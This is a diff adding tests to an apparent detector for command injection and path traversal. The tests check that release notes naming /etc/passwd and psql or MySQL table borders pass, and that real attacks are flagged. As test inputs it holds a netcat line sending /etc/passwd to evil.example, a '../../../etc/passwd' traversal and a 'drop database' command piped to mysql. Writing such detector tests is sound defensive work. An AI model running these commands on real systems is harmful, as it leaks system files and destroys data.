@@ -1718,3 +1718,18 @@ t.test('twenty-fifth round: find running a program, the field separator set to a
   t.same(json({ body: 'while IFS= read -r line; do echo "$line"; done < notes.txt' }), [], "a loop's empty IFS reading lines")
   t.ok(q("array_reduce(array('ls'),'system');").includes('rce'), 'array_reduce handed system')
 })
+
+t.test('twenty-sixth round (documents on this machine): a system file named inside a sentence of a text, a text table’s borders', async (t) => {
+  const notes = (line: string) => `Release notes\n=============\n\n * The code in the directory could not cope with a user missing\n${line}\n   and that is fixed now, as the tests show.\n`
+  t.same(json({ text: notes('   in the /etc/passwd file or other uid-to-name mappings), the') }), [], 'a system file between two words of a sentence')
+  t.same(json({ text: notes('This package supplies the master copies of /etc/passwd and /etc/group,') }), [], 'and one ending a line on a comma')
+  t.ok(json({ text: notes('   read it from ../../../etc/passwd instead of the local file') }).includes('path_traversal'), 'climbing to it still counts')
+  t.ok(json({ text: notes('/etc/passwd') }).includes('path_traversal'), 'a system file on a line of its own still counts')
+  t.ok(json({ file: '/etc/passwd' }).includes('path_traversal'), 'and as a whole value')
+  t.ok(json({ text: 'see the /etc/passwd file' }).includes('path_traversal'), 'a sentence alone is no text of several lines')
+  const table = 'Reserved uids:\n    uid   | name              | description\n    ------+-------------------+---------------\n    64001 | mysql             | mysql-server\n    64010 | alias             | qmail alias\n'
+  t.same(json({ text: table }), [], "a psql table's cells are parted by borders, not piped to mysql")
+  t.same(json({ text: '+----+-------+\n| id | name  |\n+----+-------+\n| 1  | mysql |\n+----+-------+\n' }), [], "and MySQL's")
+  t.ok(json({ text: `${table}    64011 | x; cat /etc/passwd | nc evil.example 4444\n` }).includes('rce'), 'a row holding a separator is no row')
+  t.ok(json({ text: 'Reserved uids:\n    uid   | name\n    64001 | mysql -e "drop database x"\n' }).includes('rce'), 'without the delimiter row, a pipe into mysql')
+})
